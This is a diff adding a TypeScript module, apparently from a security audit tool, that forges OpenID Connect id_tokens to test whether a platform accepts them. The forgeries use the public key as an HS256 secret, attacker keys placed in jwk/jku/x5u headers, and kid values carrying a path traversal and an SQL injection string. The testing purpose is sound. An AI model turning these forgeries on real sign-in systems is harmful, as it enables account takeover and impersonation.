@@ -1,0 +1,107 @@
+import { createHmac, createPublicKey, createSign, generateKeyPair, type JsonWebKey, type KeyObject } from 'node:crypto'
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { promisify } from 'node:util'
+import type { AuditContext } from '../context/context.js'
+import type { Person } from './person.js'
+
+const OWN_KID = 'audit-own-key'
+
+/** A forged id_token for a sign-in, as the attacker makes it of all that is public. */
+export type Forge = (claims: object) => string
+
+interface OwnKey {
+  privateKey: KeyObject
+  jwk: JsonWebKey
+}
+
+type PublishedKey = JsonWebKey & { kid?: string }
+
+const encode = (part: unknown) => Buffer.from(JSON.stringify(part)).toString('base64url')
+
+const sign = (header: object, claims: object, signatureOf: (signed: string) => string): string => {
+  const signed = `${encode({ typ: 'JWT', ...header })}.${encode(claims)}`
+  return `${signed}.${signatureOf(signed)}`
+}
+
+const hs256 = (secret: string) => (signed: string) => createHmac('sha256', secret).update(signed).digest('base64url')
+
+const rs256 =
+  ({ privateKey }: OwnKey) =>
+  (signed: string) =>
+    createSign('RSA-SHA256').update(signed).sign(privateKey, 'base64url')
+
+/** The claims of a genuine id_token for a person's sign-in. spec: §4.9 */
+export function genuineClaims({ app, issuer }: AuditContext, { tenant }: Person, request: URL): object {
+  const nonce = request.searchParams.get('nonce')
+  const iat = Math.floor(Date.now() / 1000)
+  const { id: sub, email, full_name: name } = tenant.user
+  return { iss: issuer, sub, aud: app.clientId, iat, exp: iat + 3600, ...(nonce && { nonce }), name, email }
+}
+
+/** HS256 over the published key, in the forms in which programs hold it. CVE-2022-29217 */
+export async function publicKeyAsSecret({ attacker, issuer }: AuditContext): Promise<Record<string, Forge>> {
+  const { response } = await attacker.send({ method: 'GET', url: `${issuer}/.well-known/jwks.json` })
+  const { keys } = JSON.parse(response.body) as { keys: PublishedKey[] }
+  const [key] = keys
+  if (!key) throw new Error('the platform publishes no key')
+  const pem = createPublicKey({ key, format: 'jwk' }).export({ type: 'spki', format: 'pem' }).toString()
+  const secrets = {
+    'its PEM': pem,
+    'its PEM without the last line break': pem.trimEnd(),
+    'its JWK': JSON.stringify(key),
+  }
+  return Object.fromEntries(
+    Object.entries(secrets).map(([what, secret]) => [
+      `with ${what} as secret`,
+      (claims) => sign({ alg: 'HS256', kid: key.kid }, claims, hs256(secret)),
+    ]),
+  )
+}
+
+/** Tokens whose header names the key that they are signed with: CVE-2018-0114 */
+export async function ownKeys(context: AuditContext, keysUrl: string): Promise<Record<string, Forge>> {
+  const key = await ownKeyOf(context)
+  const headers = { jwk: { jwk: key.jwk }, jku: { jku: keysUrl }, x5u: { x5u: keysUrl } }
+  return Object.fromEntries(
+    Object.entries(headers).map(([name, header]) => [
+      `with its key in "${name}"`,
+      (claims) => sign({ alg: 'RS256', kid: OWN_KID, ...header }, claims, rs256(key)),
+    ]),
+  )
+}
+
+/** Key ids that become a path or a query where a program looks keys up by them. */
+export async function oddKids(context: AuditContext): Promise<Record<string, Forge>> {
+  const key = await ownKeyOf(context)
+  return {
+    'whose kid is a path to an empty file': (claims) =>
+      sign({ alg: 'HS256', kid: '../../../../../../../../dev/null' }, claims, hs256('')),
+    'whose kid holds a quote': (claims) => sign({ alg: 'RS256', kid: "' OR '1'='1' -- " }, claims, rs256(key)),
+  }
+}
+
+const ownKeyOf = ({ once: onlyOnce }: AuditContext): Promise<OwnKey> =>
+  onlyOnce('the own key of the attacker', async () => {
+    const { publicKey, privateKey } = await promisify(generateKeyPair)('rsa', { modulusLength: 2048 })
+    return { privateKey, jwk: { ...publicKey.export({ format: 'jwk' }), kid: OWN_KID, alg: 'RS256', use: 'sig' } }
+  })
+
+/** Serves the attacker's key set while an action runs. @returns its result and the number of requests. */
+export async function whileServingKeys<T>(context: AuditContext, act: (url: string) => Promise<T>) {
+  const { jwk } = await ownKeyOf(context)
+  let requests = 0
+  const server = createServer((_, response) => {
+    requests++
+    response.setHeader('content-type', 'application/json').end(JSON.stringify({ keys: [jwk] }))
+  }).listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  try {
+    const { port } = server.address() as AddressInfo
+    return { result: await act(`http://127.0.0.1:${port}/keys.json`), requests }
+  } finally {
+    server.closeAllConnections()
+    server.close()
+  }
+}
